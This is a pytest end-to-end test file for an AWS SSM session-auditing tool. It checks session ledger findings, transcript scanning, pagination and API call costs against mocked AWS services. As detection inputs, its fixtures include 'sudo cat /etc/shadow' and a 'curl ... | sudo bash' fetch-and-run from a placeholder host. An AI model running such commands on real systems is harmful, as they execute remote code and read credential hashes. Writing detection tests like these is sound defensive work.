"""The session ledger end to end: real-format EventBridge events (events/ledger-*.json and the CloudTrail samples)
through the ledger function's handler, the subscription function's plain-text path, moto behind DynamoDB, SNS, S3,
SQS, Secrets Manager and CloudWatch Logs (the sanitized group, where the delivery records are written with
PutLogEvents and read back with FilterLogEvents), the loopback recorder as the Slack webhook, and a DescribeSessions
fake shaped like boto3's (moto 5 does not implement describe_sessions) behind the real adapter.
"""

from __future__ import annotations

import copy
import json
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from functools import partial
from pathlib import Path
from types import ModuleType
from typing import Any

import boto3
import botocore.session
import pytest
from botocore.exceptions import ClientError
from moto import mock_aws
from sessionguard.adapters import aws
from sessionguard.adapters.delivery_records import DeliveryRecords, PageBudget
from sessionguard.adapters.session_ledger import SessionTable, SsmSessionDirectory
from sessionguard.alerting import ledger_alerts, session_alerts
from sessionguard.alerting.transcript import log_stream_name
from sessionguard.ledger.calls import session_call
from sessionguard.ledger.model import StreamDelivery, delivery_record

from tests.conftest import HttpRecorder
from tests.support import AlertStack, FakeLambdaContext, fresh_powertools, load_function
from tests.unit.make_event_fixtures import awslogs
from tests.unit.make_ledger_fixtures import BUCKET, COMMAND_SESSION, COMMAND_TRANSCRIPT, SHELL_SESSION

REPO = Path(__file__).resolve().parents[2]
EVENTS = REPO / "events"
REGION = "us-east-1"
TABLE = "sessionguard-SessionLedgerTable"
SESSION_GROUP = "/aws/ssm/sessionguard/sessions"
SANITIZED_GROUP = "/aws/ssm/sessionguard/sanitized"
START = 1_795_705_574  # 2026-11-26T15:06:14Z, the StartSession sample's eventTime
SHELL_TRANSCRIPT = (
    "Script started on 2026-11-26 15:06:15+00:00\n"
    "sh-4.2$ id\r\n"
    "uid=1001(ssm-user) gid=1001(ssm-user)\r\n"
    "sh-4.2$ sudo cat /etc/shadow\r\n"
    "root:*LOCK*:14600::::::\r\n"
    "sh-4.2$ exit\r\n"
    "Script done on 2026-11-26 15:10:40+00:00\n"
)

lambda_context = partial(
    FakeLambdaContext,
    function_name="sessionguard-SessionLedgerFunction-Ab12Cd34",
    invoked_function_arn="arn:aws:lambda:us-east-1:123456789012:function:sessionguard-SessionLedgerFunction-Ab12Cd34",
    aws_request_id="7e2d3c4b-5a69-7887-96a5-b4c3d2e1f003",
)


class FakeSsm:
    """`describe_sessions` as boto3 answers it (botocore ssm service-2.json: State, MaxResults, NextToken, Filters;
    Sessions with datetime StartDate/EndDate), two sessions per page so pagination is exercised."""

    page_size = 2

    def __init__(self) -> None:
        self.active: list[dict[str, Any]] = []
        self.history: list[dict[str, Any]] = []
        self.requests: list[dict[str, Any]] = []

    def describe_sessions(self, **request: Any) -> dict[str, Any]:
        self.requests.append(request)
        assert request["State"] in {"Active", "History"}
        assert 1 <= request["MaxResults"] <= 200
        sessions = self.active if request["State"] == "Active" else self.history
        start = int(request.get("NextToken", "0"))
        page = sessions[start : start + self.page_size]
        answer: dict[str, Any] = {"Sessions": page}
        if start + self.page_size < len(sessions):
            answer["NextToken"] = str(start + self.page_size)
        return answer

    def end(self, session_id: str, at: int) -> None:
        sample = copy.deepcopy(
            json.loads((EVENTS / "ledger-describe-sessions-history.json").read_text())["Sessions"][0]
        )
        sample.update(SessionId=session_id, Status="Terminated", StartDate=datetime.fromtimestamp(START).astimezone(),
                      EndDate=datetime.fromtimestamp(at).astimezone())  # fmt: skip
        self.active = [s for s in self.active if s["SessionId"] != session_id]
        self.history.append(sample)


@dataclass
class Stack(AlertStack):
    ssm: FakeSsm
    clock: list[float]
    slept: list[float]  # what the ledger function waited (for records to become searchable)

    def at(self, epoch: float) -> None:
        self.clock[0] = epoch

    def table(self) -> SessionTable:
        return SessionTable(TABLE, boto3.client("dynamodb", region_name=REGION))


def create_ledger_table(client: Any) -> None:
    """As template.yaml's SessionLedgerTable."""
    client.create_table(
        TableName=TABLE,
        BillingMode="PAY_PER_REQUEST",
        AttributeDefinitions=[
            {"AttributeName": "session_id", "AttributeType": "S"},
            {"AttributeName": "open", "AttributeType": "S"},
            {"AttributeName": "first_seen", "AttributeType": "N"},
        ],
        KeySchema=[{"AttributeName": "session_id", "KeyType": "HASH"}],
        GlobalSecondaryIndexes=[
            {
                "IndexName": "Open",
                "KeySchema": [
                    {"AttributeName": "open", "KeyType": "HASH"},
                    {"AttributeName": "first_seen", "KeyType": "RANGE"},
                ],
                "Projection": {"ProjectionType": "KEYS_ONLY"},
            }
        ],
    )


@pytest.fixture
def app() -> ModuleType:
    return load_function("session_ledger")


@pytest.fixture(autouse=True)
def clean_powertools() -> Iterator[None]:
    yield from fresh_powertools(ledger_alerts.default_outlets, session_alerts.default_outlets)


@pytest.fixture
def stack(monkeypatch: pytest.MonkeyPatch, http_recorder: HttpRecorder) -> Iterator[Stack]:
    with mock_aws():
        create_ledger_table(boto3.client("dynamodb", region_name=REGION))
        s3 = boto3.client("s3", region_name=REGION)
        s3.create_bucket(Bucket=BUCKET)
        s3.put_bucket_versioning(Bucket=BUCKET, VersioningConfiguration={"Status": "Enabled"})
        sqs = boto3.client("sqs", region_name=REGION)
        failure_queue_url = sqs.create_queue(QueueName="sessionguard-alert-failures")["QueueUrl"]
        boto3.client("logs", region_name=REGION).create_log_group(logGroupName=SANITIZED_GROUP)
        stack = Stack.create(http_recorder, ssm=FakeSsm(), clock=[START], slept=[])
        stack.set_environment(
            monkeypatch,
            SESSION_LEDGER_TABLE=TABLE,
            TRANSCRIPT_BUCKET=BUCKET,
            TRANSCRIPT_KEY_PREFIX="sessions",
            SESSION_LOG_GROUP=SESSION_GROUP,
            ACCOUNT_ID="123456789012",
            NOT_STREAMED_AFTER_MINUTES="5",
            NO_TRANSCRIPT_AFTER_MINUTES="15",
            SANITIZED_LOG_GROUP=SANITIZED_GROUP,
            FAILURE_QUEUE_URL=failure_queue_url,
        )
        _, outlets = ledger_alerts.default_outlets()
        outlets.directory = SsmSessionDirectory(stack.ssm, max_pages=3)  # type: ignore[arg-type]
        outlets.wall_clock = lambda: float(stack.clock[0])
        outlets.sleep = stack.slept.append
        yield stack


def invoke(app: ModuleType, event: dict[str, Any]) -> dict[str, Any]:
    return app.lambda_handler(event, lambda_context())  # type: ignore[no-any-return]


def subscribe(stack: Stack, payload: dict[str, Any]) -> dict[str, Any]:
    """One subscription delivery through the session alerts function, on the test's clock (it stamps the delivery
    record it writes in the sanitized group at its own now)."""
    function = load_function("session_alerts")
    session_alerts.default_outlets()[1].wall_clock = lambda: float(stack.clock[0])
    return function.lambda_handler(awslogs(payload), lambda_context())  # type: ignore[no-any-return]


def sample(name: str) -> dict[str, Any]:
    return json.loads((EVENTS / name).read_text(encoding="utf-8"))  # type: ignore[no-any-return]


def schedule() -> dict[str, Any]:
    return sample("ledger-scheduled-event.json")


def start_shell(app: ModuleType, stack: Stack) -> None:
    start = sample("cloudtrail-ssm-start-session-logged-shell.json")
    stack.ssm.active.append({"SessionId": SHELL_SESSION, "Status": "Connected", "Target": "i-0fedcba9876543210"})
    invoke(app, start)


def stream(
    stack: Stack, lines: int, batch: str = "b-1", session_id: str = SHELL_SESSION, at: int = START + 30, **more: Any
) -> None:
    """What the subscription function writes for one delivery of a session's stream: its delivery record, in the
    session's stream of the sanitized group, stamped at its write."""
    delivery = StreamDelivery(session_id, batch, START + 1, at, events=3, lines=lines, **more)
    put_messages(session_id, [json.dumps(delivery_record(delivery))], at)


def put_messages(session_id: str, messages: list[str], at: float = START + 30) -> None:
    # A session of its own: the cost test counts the ledger function's calls, not the subscription's writes.
    logs = boto3.session.Session().client("logs", region_name=REGION)
    name = log_stream_name(session_id)
    if not logs.describe_log_streams(logGroupName=SANITIZED_GROUP, logStreamNamePrefix=name)["logStreams"]:
        logs.create_log_stream(logGroupName=SANITIZED_GROUP, logStreamName=name)
    events = [{"timestamp": int(at * 1000), "message": message} for message in messages]
    logs.put_log_events(logGroupName=SANITIZED_GROUP, logStreamName=name, logEvents=events)


def legacy_stream(stack: Stack, lines: int, session_id: str = SHELL_SESSION) -> None:
    """What the subscription function wrote for one delivery before the delivery records: one conditional update
    that ADDed the delivery's counts to the session's item (and put it in the Open index)."""
    boto3.client("dynamodb", region_name=REGION).update_item(
        TableName=TABLE,
        Key={"session_id": {"S": session_id}},
        UpdateExpression=(
            "SET first_seen = if_not_exists(first_seen, :t), expires_at = :exp, #open = if_not_exists(#open, :open),"
            " stream_first = if_not_exists(stream_first, :first), stream_last = :t, last_batch = :batch"
            " ADD stream_events :events, stream_lines :lines, plain_text_events :zero, forged_events :zero"
        ),
        ExpressionAttributeNames={"#open": "open"},
        ExpressionAttributeValues={
            ":t": {"N": str(START + 30)}, ":exp": {"N": str(START + 86400)}, ":open": {"S": "open"},
            ":first": {"N": str(START + 1)}, ":batch": {"S": "b-0"}, ":events": {"N": "3"},
            ":lines": {"N": str(lines)}, ":zero": {"N": "0"},
        },
    )  # fmt: skip


def put_transcript(stack: Stack, session_id: str, text: str) -> dict[str, Any]:
    """The agent's upload, and the Object Created event S3 sends to EventBridge for it."""
    key = f"sessions/{session_id}.log"
    answer = boto3.client("s3", region_name=REGION).put_object(Bucket=BUCKET, Key=key, Body=text.encode())
    event = sample("ledger-s3-object-created.json")
    event["detail"]["object"].update(key=key, size=len(text.encode()), **{"version-id": answer["VersionId"]})
    return event


def findings_sent(stack: Stack) -> list[str]:
    return [m["MessageAttributes"]["rule_id"]["StringValue"] for m in stack.sns_messages()
            if m["MessageAttributes"].get("alert_type", {}).get("StringValue") == "ledger"]  # fmt: skip


def record(stack: Stack, session_id: str = SHELL_SESSION) -> dict[str, Any]:
    found = stack.table().get(session_id)
    assert found is not None
    return found.to_json()


# --- Start ------------------------------------------------------------------------------------------------------


def test_start_session_is_recorded_with_who_from_where_and_how(app: ModuleType, stack: Stack) -> None:
    summary = invoke(app, sample("cloudtrail-ssm-start-session-logged-shell.json"))
    assert summary["kind"] == "session-call"
    row = record(stack)
    assert row["user"].endswith("assumed-role/AWSReservedSSO_AdministratorAccess_0a1b2c3d4e5f6a7b/jane.roe")
    assert (row["source_ip"], row["started_via"], row["mfa"]) == ("203.0.113.24", "cli", "false")
    assert (row["target"], row["document"], row["started_at"]) == ("i-0fedcba9876543210", "SSM-SessionManagerRunShell",
                                                                    "2026-11-26T15:06:14Z")  # fmt: skip
    invoke(app, sample("ledger-cloudtrail-terminate-session.json"))
    assert record(stack)["ended_at"] == "2026-11-26T15:30:41Z"


# --- SG-LG-001 --------------------------------------------------------------------------------------------------


def test_sg_lg_001_a_shell_session_that_never_streams_is_reported_with_its_context(
    app: ModuleType, stack: Stack
) -> None:
    start_shell(app, stack)
    stack.at(START + 301)
    summary = invoke(app, schedule())
    assert summary["findings"] == {"SG-LG-001": 1}
    assert findings_sent(stack) == ["SG-LG-001"]
    body = stack.sns_messages()[0]["Body"]
    document = json.loads(body.split("Alert JSON:\n", 1)[1])
    assert document["session"]["source_ip"] == "203.0.113.24"
    assert document["session"]["started_via"] == "cli"
    assert document["session"]["mfa"] == "false"
    (post,) = stack.slack_posts()
    assert "Shell session not streamed" in json.dumps(post)
    # the next run does not raise it again
    stack.at(START + 900)
    assert invoke(app, schedule())["findings"] == {}
    assert record(stack)["findings"] == ["SG-LG-001"]


def test_sg_lg_001_a_streamed_shell_session_is_not_reported(app: ModuleType, stack: Stack) -> None:
    start_shell(app, stack)
    stream(stack, lines=6)
    stack.at(START + 600)
    assert invoke(app, schedule())["findings"] == {}
    assert findings_sent(stack) == []


# --- SG-LG-002 and the transcript scan --------------------------------------------------------------------------


def test_sg_lg_002_commands_past_the_stream_are_found_and_only_they_are_scanned(app: ModuleType, stack: Stack) -> None:
    start_shell(app, stack)
    stream(stack, lines=2)  # `id` and its output streamed; then the stream died
    summary = invoke(app, put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT))
    assert summary["findings"] == {"SG-LG-002": 1}
    assert summary["transcript_lines_scanned"] == 3
    rule_ids = [m["MessageAttributes"]["rule_id"]["StringValue"] for m in stack.sns_messages()]
    assert "SG-CRED-001" in rule_ids  # `sudo cat /etc/shadow`, typed after the stream stopped
    alert = next(m for m in stack.sns_messages() if m["MessageAttributes"]["rule_id"]["StringValue"] == "SG-CRED-001")
    assert "Source IP:   203.0.113.24" in alert["Body"]  # the command alert carries the session's context


def test_sg_lg_002_a_transcript_that_holds_what_was_streamed_raises_nothing(app: ModuleType, stack: Stack) -> None:
    start_shell(app, stack)
    stream(stack, lines=5)  # everything streamed (its alerts went out from the subscription function)
    summary = invoke(app, put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT))
    assert summary["findings"] == {}
    assert summary["transcript_lines_scanned"] == 0
    assert stack.sns_messages() == []


def test_a_never_streamed_sessions_transcript_is_scanned_whole(app: ModuleType, stack: Stack) -> None:
    start_shell(app, stack)
    summary = invoke(app, put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT))
    assert summary["transcript_lines_scanned"] == 5
    assert summary["command_alerts"] >= 1


# --- SG-LG-003 --------------------------------------------------------------------------------------------------


def test_sg_lg_003_a_session_that_ended_without_a_transcript_is_reported(app: ModuleType, stack: Stack) -> None:
    start_shell(app, stack)
    stream(stack, lines=6)
    stack.ssm.end(SHELL_SESSION, START + 600)  # the user typed exit: no TerminateSession call
    stack.at(START + 700)
    summary = invoke(app, schedule())
    assert summary["closed"] == 1
    assert summary["findings"] == {}
    stack.at(START + 600 + 900)
    assert invoke(app, schedule())["findings"] == {"SG-LG-003": 1}
    assert record(stack)["end_source"] == "DescribeSessions"


def test_sg_lg_003_a_session_whose_transcript_arrived_is_not_reported_and_is_let_go(
    app: ModuleType, stack: Stack
) -> None:
    start_shell(app, stack)
    stream(stack, lines=5)
    invoke(app, sample("ledger-cloudtrail-terminate-session.json"))
    invoke(app, put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT))
    stack.at(START + 7200)
    summary = invoke(app, schedule())
    assert (summary["findings"], summary["settled"]) == ({}, 1)
    assert findings_sent(stack) == []


# --- SG-LG-004 --------------------------------------------------------------------------------------------------


def test_sg_lg_004_a_stream_no_session_started_is_reported_after_the_grace(app: ModuleType, stack: Stack) -> None:
    # Given delivery records in a stream no StartSession (and no ledger item) explains
    stream(stack, lines=4, session_id="ghost-0a1b2c3d4e5f60718")
    stack.at(START + 600)
    # When the reconciler runs, its sweep of the sanitized group finds the stream and opens it in the ledger
    assert invoke(app, schedule())["findings"] == {}  # CloudTrail may still be on its way
    assert record(stack, "ghost-0a1b2c3d4e5f60718")["findings"] == []
    stack.at(START + 1300)
    # Then once the grace has passed, it is reported with what its records say
    assert invoke(app, schedule())["findings"] == {"SG-LG-004": 1}
    assert record(stack, "ghost-0a1b2c3d4e5f60718")["first_event"] == "2026-11-26T15:06:15Z"


@pytest.mark.parametrize("days_back", [0, 2])
def test_sg_lg_004_a_stream_no_session_started_is_reported_whatever_time_its_events_claim(
    app: ModuleType, stack: Stack, days_back: int
) -> None:
    # Given a reconciler run (its sweep's checkpoint), then a delivery of a stream no StartSession explains, whose
    # event times (chosen by whoever holds the instance role) may be days old
    stack.at(START)
    invoke(app, schedule())
    ghost, when = "ghost-0a1b2c3d4e5f60718", START + 60 - days_back * 86400
    event = {"eventVersion": "1.0", "eventTime": datetime.fromtimestamp(when, UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
             "awsRegion": REGION, "target": {"id": "i-0fedcba9876543210"}, "runAsUser": "ssm-user",
             "userIdentity": {"arn": "arn:aws:sts::111122223333:assumed-role/x/y"}, "sessionId": ghost,
             "sessionData": ["sh-4.2$ id", "uid=0(root)"]}  # fmt: skip
    stack.at(START + 61)
    subscribe(stack, {"messageType": "DATA_MESSAGE", "owner": "123456789012", "logGroup": SESSION_GROUP,
                      "logStream": ghost, "subscriptionFilters": ["f"],
                      "logEvents": [{"id": "1", "timestamp": when * 1000, "message": json.dumps(event)}]})  # fmt: skip
    # When the reconciler runs after the grace, its sweep finds the record (stamped at its write) and reports it
    stack.at(START + 1300)
    assert invoke(app, schedule())["findings"] == {"SG-LG-004": 1}


def test_sg_lg_004_a_stream_the_legacy_update_recorded_is_still_reported(app: ModuleType, stack: Stack) -> None:
    legacy_stream(stack, lines=4, session_id="ghost-0a1b2c3d4e5f60718")
    stack.at(START + 1300)
    assert invoke(app, schedule())["findings"] == {"SG-LG-004": 1}


def test_sg_lg_004_a_stream_whose_start_session_arrives_late_is_not(app: ModuleType, stack: Stack) -> None:
    stream(stack, lines=6)
    stack.at(START + 240)
    start_shell(app, stack)  # CloudTrail's event arrived 4 minutes after the first stream event
    stack.at(START + 1300)
    assert invoke(app, schedule())["findings"] == {}


# --- SG-LG-005 --------------------------------------------------------------------------------------------------


def test_sg_lg_005_a_second_version_of_a_transcript_is_reported(app: ModuleType, stack: Stack) -> None:
    start_shell(app, stack)
    stream(stack, lines=5)
    invoke(app, put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT))
    summary = invoke(app, put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT.replace("cat /etc/shadow", "ls")))
    assert summary["findings"] == {"SG-LG-005": 1}
    assert record(stack)["transcript_versions"] == 2


def test_sg_lg_005_the_same_notification_twice_is_not_an_overwrite(app: ModuleType, stack: Stack) -> None:
    start_shell(app, stack)
    stream(stack, lines=5)
    event = put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT)
    invoke(app, event)
    assert invoke(app, event)["findings"] == {}
    assert record(stack)["transcript_versions"] == 1


# --- the command session: plain-text upload through the subscription function -----------------------------------


def test_a_command_sessions_plain_text_upload_is_scanned_and_its_risky_command_reaches_sns_and_slack(
    app: ModuleType, stack: Stack
) -> None:
    invoke(app, sample("ledger-cloudtrail-start-interactive-bash.json"))
    summary = subscribe(stack, sample("ledger-subscription-plain-text.json"))
    assert summary["malformed"] == 0
    messages = stack.sns_messages()
    assert [m["MessageAttributes"]["rule_id"]["StringValue"] for m in messages] == ["SG-DLEX-001"]
    body = messages[0]["Body"]
    assert "curl -fsSL http://203.0.113.50/i.sh | sudo bash" in body
    assert "Started via: cli" in body
    assert "hunter2" not in body
    assert any("SG-DLEX-001" in json.dumps(post) for post in stack.slack_posts())
    # its S3 transcript (the same typescript) is not scanned a second time: the delivery's record says it was read
    summary = invoke(app, put_transcript(stack, COMMAND_SESSION, COMMAND_TRANSCRIPT))
    assert summary["transcript_lines_scanned"] == 0
    row = record(stack, COMMAND_SESSION)
    assert (row["plain_text_events"], row["streamed"]) == (1, False)


def test_describe_sessions_is_read_in_bounded_pages(app: ModuleType, stack: Stack) -> None:
    for n in range(9):
        stack.ssm.active.append({"SessionId": f"other-{n:017x}", "Status": "Connected"})
    start_shell(app, stack)
    stack.at(START + 60)
    invoke(app, schedule())
    active_calls = [r for r in stack.ssm.requests if r["State"] == "Active"]
    assert len(active_calls) == 3  # max_pages, although a fourth page exists


def test_session_call_reads_the_resume_sample() -> None:
    assert session_call(sample("ledger-cloudtrail-resume-session.json")) is not None


# --- notices of every session (SessionNotices) ------------------------------------------------------------------


def notices(stack: Stack) -> list[dict[str, Any]]:
    return [m for m in stack.sns_messages()
            if m["MessageAttributes"].get("alert_type", {}).get("StringValue") == "session-notice"]  # fmt: skip


def test_with_session_notices_every_start_and_end_is_announced(
    app: ModuleType, stack: Stack, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SESSION_NOTICES", "true")
    ledger_alerts.default_outlets.cache_clear()
    _, outlets = ledger_alerts.default_outlets()
    outlets.wall_clock = lambda: float(stack.clock[0])
    invoke(app, sample("cloudtrail-ssm-start-session-logged-shell.json"))
    invoke(app, sample("ledger-cloudtrail-terminate-session.json"))
    bodies = [m["Body"] for m in notices(stack)]
    assert len(bodies) == 2
    assert "session started" in bodies[0]
    assert "session ended" in bodies[1]
    assert "Source IP:   203.0.113.24" in bodies[0]
    assert len(stack.slack_posts()) == 2


def test_without_session_notices_a_session_start_is_not_announced(app: ModuleType, stack: Stack) -> None:
    invoke(app, sample("cloudtrail-ssm-start-session-logged-shell.json"))
    invoke(app, sample("ledger-cloudtrail-terminate-session.json"))
    assert notices(stack) == []
    assert stack.slack_posts() == []


def test_a_risky_command_in_the_streamed_part_is_not_alerted_again_from_the_transcript(
    app: ModuleType, stack: Stack
) -> None:
    # Given a session whose stream delivered its first command (a risky one, alerted as it streamed), then died
    transcript = SHELL_TRANSCRIPT.replace("sh-4.2$ id\r\n", "sh-4.2$ curl -fsSL http://203.0.113.50/i.sh | bash\r\n")
    start_shell(app, stack)
    stream(stack, lines=2)
    # When its transcript arrives
    invoke(app, put_transcript(stack, SHELL_SESSION, transcript))
    # Then only what followed the stream is alerted on
    rule_ids = [m["MessageAttributes"]["rule_id"]["StringValue"] for m in stack.sns_messages()]
    assert "SG-CRED-001" in rule_ids
    assert "SG-DLEX-001" not in rule_ids


def test_sg_lg_004_events_in_a_stream_that_claim_another_session_are_reported(app: ModuleType, stack: Stack) -> None:
    # Given a shell session whose stream receives an event naming another session (any instance can write into it)
    start_shell(app, stack)
    forged = {"eventVersion": "1.0", "eventTime": "2026-11-26T15:07:00Z", "awsRegion": REGION,
              "target": {"id": "i-0fedcba9876543210"}, "userIdentity": {"arn": "arn:aws:sts::1:assumed-role/x/y"},
              "runAsUser": "ssm-user", "sessionId": "someone.else-0f0e0d0c0b0a09080",
              "sessionData": ["$ id"]}  # fmt: skip
    payload = {"messageType": "DATA_MESSAGE", "owner": "123456789012", "logGroup": SESSION_GROUP,
               "logStream": SHELL_SESSION, "subscriptionFilters": ["f"],
               "logEvents": [{"id": "1", "timestamp": (START + 60) * 1000, "message": json.dumps(forged)}]}  # fmt: skip
    stack.at(START + 61)
    subscribe(stack, payload)
    assert record(stack)["findings"] == []
    # When the reconciler runs
    stack.at(START + 120)
    summary = invoke(app, schedule())
    # Then the session's stream is reported at once, without waiting for CloudTrail
    assert summary["findings"] == {"SG-LG-004": 1}


# --- what a session costs in AWS calls (docs/ledger.md, "Cost per session") -------------------------------------


def test_a_normal_streamed_session_costs_the_calls_docs_ledger_md_says(
    app: ModuleType, stack: Stack, monkeypatch: pytest.MonkeyPatch
) -> None:
    calls: Counter[str] = Counter()

    def count(model: Any, **_: Any) -> None:
        calls[f"{model.service_model.service_name}:{model.name}"] += 1

    counting = botocore.session.get_session()
    counting.register("before-call", count)
    monkeypatch.setattr(aws, "sdk_session", lambda: counting)  # every client made from here on counts its calls
    ledger_alerts.default_outlets.cache_clear()
    _, outlets = ledger_alerts.default_outlets()  # built again, with the counting session's clients
    outlets.directory = SsmSessionDirectory(stack.ssm)  # type: ignore[arg-type]
    outlets.wall_clock = lambda: float(stack.clock[0])
    # Given a 10-minute shell session: StartSession, 20 subscription deliveries (each writes its delivery record
    # in its transcript write: the test's own writes below, not counted), exit, its transcript
    start_shell(app, stack)
    for minute in (5, 10):
        for batch in range(10):
            last = minute == 10 and batch == 9
            stream(stack, lines=5 if last else 0, batch=f"b-{minute}-{batch}", at=START + minute * 60 - 30)
        stack.at(START + minute * 60)
        invoke(app, schedule())
    stack.ssm.end(SHELL_SESSION, START + 600)
    invoke(app, put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT))
    stack.at(START + 900)
    invoke(app, schedule())
    # Then it cost what the docs say (the test's own calls, made with boto3, are not counted), and no alert went out
    assert calls == {
        # start, transcript, close + let go; the records' totals (the first run, and the transcript's read: the
        # second run saw new records of a session still active and streamed, and left them for later); each run's
        # sweep checkpoint. No delivery makes a ledger call of its own.
        "dynamodb:UpdateItem": 1 + 1 + 2 + 2 + 3,
        "dynamodb:Query": 3,  # one page of the open index per run
        "dynamodb:BatchGetItem": 3,  # the open sessions, read by each of the three runs (100 per call)
        "dynamodb:GetItem": 3,  # each run's sweep checkpoint
        # each run: one sweep page of the whole group; the first and the last (the session no longer active) one
        # page of the open sessions' streams that need reading (100 a call); the transcript: one page of its stream
        "logs:FilterLogEvents": 3 + 2 + 1,
        "s3:GetObject": 1,
    }
    assert record(stack)["stream_events"] == 60
    assert len(stack.ssm.requests) == 6  # DescribeSessions Active and History per run, shared by all sessions
    assert stack.sns_messages() == []


# --- the delivery records: read back exactly, or not decided on ------------------------------------------------


def test_a_record_written_twice_counts_once_and_what_is_not_a_record_counts_not_at_all(
    app: ModuleType, stack: Stack
) -> None:
    # Given a streamed session: a delivery retried after its transcript write (the same batch's record twice), a
    # typed line shaped like a record, and messages that are not records
    start_shell(app, stack)
    stream(stack, lines=2, batch="b-1")
    stream(stack, lines=2, batch="b-1")
    fake = json.dumps(delivery_record(StreamDelivery(SHELL_SESSION, "b-typed", START, START, events=9, lines=90)))
    line = {"kind": "output", "text": fake, "event_time": "2026-11-26T15:06:20Z"}
    almost = {**delivery_record(StreamDelivery(SHELL_SESSION, "b-x", START, START, events=1, lines=1)), "lines": "7"}
    put_messages(SHELL_SESSION, [json.dumps(line), "not json", json.dumps(almost), "{" * 5000, fake[:-1]])
    # When its transcript arrives
    summary = invoke(app, put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT))
    # Then the stream counts 2 lines, once: SG-LG-002 from the third line on
    assert summary["findings"] == {"SG-LG-002": 1}
    assert summary["transcript_lines_scanned"] == 3
    row = record(stack)
    assert (row["stream_events"], row["streamed"]) == (3, True)


def test_a_session_that_spans_the_upgrade_counts_its_legacy_updates_and_its_records(
    app: ModuleType, stack: Stack
) -> None:
    # Given a session whose first deliveries were counted by the previous version's update, the rest as records
    start_shell(app, stack)
    legacy_stream(stack, lines=2)
    stream(stack, lines=3, batch="b-1")
    # When its transcript arrives (5 lines in all: everything streamed)
    summary = invoke(app, put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT))
    # Then nothing is past the stream, and the item keeps both parts
    assert summary["findings"] == {}
    assert summary["transcript_lines_scanned"] == 0
    assert record(stack)["stream_events"] == 6
    stack.at(START + 600)
    assert invoke(app, schedule())["findings"] == {}
    assert record(stack)["stream_events"] == 6  # read again, set again: not added twice


def test_records_that_become_searchable_late_are_waited_for_before_sg_lg_002(app: ModuleType, stack: Stack) -> None:
    # Given a session whose last delivery's record is not searchable yet when its transcript arrives
    start_shell(app, stack)
    stream(stack, lines=2, batch="b-1")
    waited: list[float] = []

    def sleep(seconds: float) -> None:
        waited.append(seconds)
        stream(stack, lines=3, batch="b-2")  # meanwhile, the record became searchable

    ledger_alerts.default_outlets()[1].sleep = sleep
    event = put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT)
    stack.at(START + 1486)  # 16 seconds after the object was written (the event's time)
    # When it is read
    summary = invoke(app, event)
    # Then the ledger waited, read the records again, and found everything streamed
    assert waited == [14.0]
    assert summary["findings"] == {}
    assert summary["transcript_lines_scanned"] == 0


class FailingLogs:
    """FilterLogEvents refused, as boto3 raises it."""

    def __init__(self, code: str = "AccessDeniedException") -> None:
        self.code = code

    def filter_log_events(self, **_: Any) -> dict[str, Any]:
        raise ClientError({"Error": {"Code": self.code, "Message": "no"}}, "FilterLogEvents")


def test_records_that_cannot_be_read_raise_no_finding_and_are_read_next_run(
    app: ModuleType, stack: Stack, caplog: pytest.LogCaptureFixture
) -> None:
    # Given a shell session that never streamed, and a sanitized group the ledger cannot read for now
    _, outlets = ledger_alerts.default_outlets()
    readable = outlets.records
    outlets.records = DeliveryRecords(SANITIZED_GROUP, FailingLogs())  # type: ignore[arg-type]
    start_shell(app, stack)
    stack.at(START + 301)
    # When the reconciler runs
    summary = invoke(app, schedule())
    # Then nothing is decided on it (SG-LG-001 would be a guess), and the failure is logged by its code
    assert (summary["findings"], summary["records_unread"]) == ({}, 1)
    assert [r.error for r in caplog.records if r.message == "Delivery record sweep incomplete"] == [  # type: ignore[attr-defined]
        "AccessDeniedException"
    ]
    # and the next run, reading again, raises it
    outlets.records = readable
    stack.at(START + 600)
    assert invoke(app, schedule())["findings"] == {"SG-LG-001": 1}


def test_a_transcript_whose_records_cannot_be_read_fails_before_anything_is_written(
    app: ModuleType, stack: Stack
) -> None:
    _, outlets = ledger_alerts.default_outlets()
    outlets.records = DeliveryRecords(SANITIZED_GROUP, FailingLogs("ThrottlingException"))  # type: ignore[arg-type]
    start_shell(app, stack)
    with pytest.raises(ledger_alerts.DeliveryRecordsUnread):
        invoke(app, put_transcript(stack, SHELL_SESSION, SHELL_TRANSCRIPT))
    assert record(stack)["transcript"] == ""  # so Lambda's retry records and scans it


class PagedLogs:
    """moto's FilterLogEvents, at most `limit` events a page (the service pages at 10,000 events or 1 MB), each
    request kept."""

    def __init__(self, limit: int) -> None:
        self.client = boto3.client("logs", region_name=REGION)
        self.limit = limit
        self.requests: list[dict[str, Any]] = []

    def filter_log_events(self, **request: Any) -> Any:
        self.requests.append(request)
        assert len(request.get("logStreamNames", [])) <= 100
        return self.client.filter_log_events(**request, limit=self.limit)


def test_more_than_100_open_sessions_are_read_100_streams_a_call_and_page_by_page(
    app: ModuleType, stack: Stack
) -> None:
    # Given 150 sessions streaming (2 records each) that no StartSession explains yet, and a page of 40 events
    logs = PagedLogs(limit=40)
    ledger_alerts.default_outlets()[1].records = DeliveryRecords(SANITIZED_GROUP, logs)  # type: ignore[arg-type]
    ids = [f"ghost-{n:017x}" for n in range(150)]
    for session_id in ids:
        stream(stack, lines=1, batch="b-1", session_id=session_id)
        stream(stack, lines=1, batch="b-2", session_id=session_id)
    # When the reconciler runs (its sweep opens them, and the same run reads their streams)
    stack.at(START + 60)
    summary = invoke(app, schedule())
    # Then the sweep read 300 records in pages of 40, and the streams were read 100 names a call, every page
    assert len([r for r in logs.requests if "logStreamNames" not in r]) == 8
    named = [r for r in logs.requests if "logStreamNames" in r]
    assert sorted(len(r["logStreamNames"]) for r in named if "nextToken" not in r) == [50, 100]
    assert len(named) == 5 + 3  # 200 records in pages of 40, and 100 in 3
